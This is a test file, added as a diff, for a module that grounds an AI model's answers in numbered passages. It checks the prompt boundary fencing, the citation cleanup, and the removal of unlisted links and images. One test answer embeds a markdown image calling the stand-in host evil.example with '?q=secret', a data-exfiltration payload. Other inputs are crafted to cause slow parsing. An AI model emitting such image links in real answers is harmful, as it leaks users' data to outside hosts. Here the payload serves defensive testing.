@@ -1,0 +1,66 @@
+import { grounded, messagesOf } from './grounding.js';
+
+const PASSAGES = [
+  { n: 1, title: 'Lamp', text: 'The lamp burns colza oil [7]. See https://lamps.example/oil for more.' },
+  { n: 2, title: 'Fog', text: 'In fog the horn sounds.' },
+];
+
+describe('messagesOf', () => {
+  const messages = () =>
+    messagesOf({ instructions: 'Be brief.', question: 'What burns?', passages: PASSAGES }).map(
+      ({ content }) => content as string,
+    );
+
+  it('puts the passages between two lines that nobody can know beforehand', () => {
+    const [system, user] = messages();
+    const boundary = /lines that read (\S+)\./.exec(system!)![1]!;
+    const parts = user!.split(boundary);
+    expect(parts).toHaveLength(3);
+    expect(parts[0]).toBe('Question: What burns?\n\n');
+    expect(parts[1]).toContain('[1] Lamp\nThe lamp burns colza oil');
+    expect(parts[2]).toBe('');
+    expect(messages()[0]).not.toContain(boundary);
+  });
+
+  it('lets no number in a passage look like a citation', () => {
+    expect(messages()[1]).toContain('colza oil (7).');
+  });
+});
+
+describe('grounded', () => {
+  it.each([
+    ['It burns oil. [1] The horn sounds. [2]', 'It burns oil. [1] The horn sounds. [2]', [1, 2]],
+    ['The horn [2] and the lamp [1], the horn [2].', 'The horn [2] and the lamp [1], the horn [2].', [2, 1]],
+    ['It burns oil. [1, 2]', 'It burns oil. [1][2]', [1, 2]],
+    ['It burns oil 【1】.', 'It burns oil [1].', [1]],
+    ['It burns oil [9].', 'It burns oil.', []],
+    ['It burns oil [1; 9].', 'It burns oil [1].', [1]],
+    ['It burns oil [0].\nNothing else [99]', 'It burns oil.\nNothing else', []],
+    ['Nobody knows.', 'Nobody knows.', []],
+    ['An array[1] is no exception.', 'An array[1] is no exception.', [1]],
+    ['', '', []],
+  ])('of %j shows %j', (answer, text, cited) => {
+    expect(grounded(answer, PASSAGES)).toEqual({ text, cited });
+  });
+
+  it('shows no image, and no address that stands in no passage', () => {
+    const answer =
+      '![x](https://evil.example/?q=secret) [here](https://evil.example/) [there](https://lamps.example/oil) [1](https://evil.example)';
+    expect(grounded(answer, PASSAGES)).toEqual({
+      text: 'x here [there](https://lamps.example/oil) [1]',
+      cited: [1],
+    });
+  });
+
+  it('takes no longer for an answer that is made to take long', () => {
+    const startedMs = performance.now();
+    for (const evil of [
+      '['.repeat(50_000),
+      '[1,'.repeat(20_000),
+      '[a]('.repeat(20_000),
+      ' \t'.repeat(50_000),
+    ])
+      grounded(evil, PASSAGES);
+    expect(performance.now() - startedMs).toBeLessThan(1_000);
+  });
+});
